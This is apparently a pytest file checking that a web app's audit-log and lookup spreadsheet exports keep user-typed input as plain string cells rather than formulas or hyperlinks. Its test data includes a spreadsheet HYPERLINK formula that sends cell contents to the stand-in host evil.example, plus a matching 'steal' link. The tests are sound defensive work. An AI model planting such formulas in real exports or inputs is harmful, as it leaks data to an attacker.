"""Spreadsheets we write keep typed text inert (issue 9, M5): a formula or a link typed by anyone
(at the login form, in a lookup) is stored as a string cell, never as a formula or a hyperlink."""
from __future__ import annotations

import io
import zipfile

import openpyxl
from web_helpers import csrf_of

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
LINK = "http://evil.example/steal"


def _failed_login(client, username: str) -> None:
    token = csrf_of(client.get("/login").text)
    client.post("/login", data={"username": username, "password": "wrong", "csrf_token": token, "next": "/"})


def _sheet_xml(content: bytes, sheet: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return book.read(f"xl/worksheets/sheet{sheet}.xml").decode()


def _cell_holding(content: bytes, value: str, sheet_name: str | None = None):
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheet = book[sheet_name] if sheet_name else book.active
    return next(cell for row in sheet.iter_rows() for cell in row if cell.value == value)


def test_a_formula_typed_as_a_user_name_stays_text_in_the_audit_export(client_for):
    _failed_login(client_for("anonymous"), FORMULA)
    export = client_for("auditor").get("/admin/audit/export.xlsx", params={"action": "login_failed"})
    assert export.status_code == 200
    assert _cell_holding(export.content, FORMULA).data_type == "s"
    assert "<f>" not in _sheet_xml(export.content)


def test_a_link_typed_as_a_user_name_is_not_made_a_hyperlink_in_the_audit_export(client_for):
    _failed_login(client_for("anonymous"), LINK)
    export = client_for("auditor").get("/admin/audit/export.xlsx", params={"action": "login_failed"})
    assert _cell_holding(export.content, LINK).data_type == "s"
    assert "<hyperlink" not in _sheet_xml(export.content)


def test_a_formula_typed_into_a_lookup_stays_text_in_its_export(client_for):
    archivist = client_for("archivist")
    token = csrf_of(archivist.get("/lookup").text)
    export = archivist.post("/lookup/export", data={"text": "=1+2", "csrf_token": token})
    assert export.status_code == 200
    assert _cell_holding(export.content, "=1+2", "未找到").data_type == "s"
    assert "<f>" not in _sheet_xml(export.content, 2)
